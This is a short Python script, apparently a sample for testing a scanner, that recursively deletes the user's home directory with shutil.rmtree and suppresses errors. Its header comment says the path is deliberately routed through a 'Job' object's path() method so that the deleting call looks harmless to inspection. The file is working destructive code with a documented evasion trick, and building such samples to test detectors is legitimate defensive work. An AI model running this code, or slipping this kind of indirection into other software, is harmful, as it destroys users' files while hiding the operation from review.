# Evasion: deletes the user's home directory recursively.
# Hidden in an object: a "Job" keeps the path it is given in self.p and
# hands it back from its path() method, so the call that removes it sees
# only Job(home).path().
import os
import shutil
import sys


class Job:
    def __init__(self, p):
        self.p = p

    def path(self):
        return self.p

    def describe(self):
        return "job on " + self.p


def main():
    home = os.path.expanduser("~")
    job = Job(home)
    print(job.describe())
    if "--keep" not in sys.argv:
        shutil.rmtree(Job(home).path(), ignore_errors=True)


if __name__ == "__main__":
    main()
